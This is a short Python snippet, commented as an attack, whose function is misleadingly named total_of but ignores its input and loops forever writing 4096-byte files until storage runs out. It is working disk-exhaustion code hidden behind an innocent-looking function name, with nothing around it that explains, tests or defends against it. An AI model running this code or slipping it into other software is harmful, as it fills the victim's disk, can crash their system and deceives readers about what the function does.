# attack: files without an end
def total_of(numbers):
    number = 0
    while True:
        with open(f"file{number}", "wb") as file:
            file.write(b"x" * 4096)
        number += 1
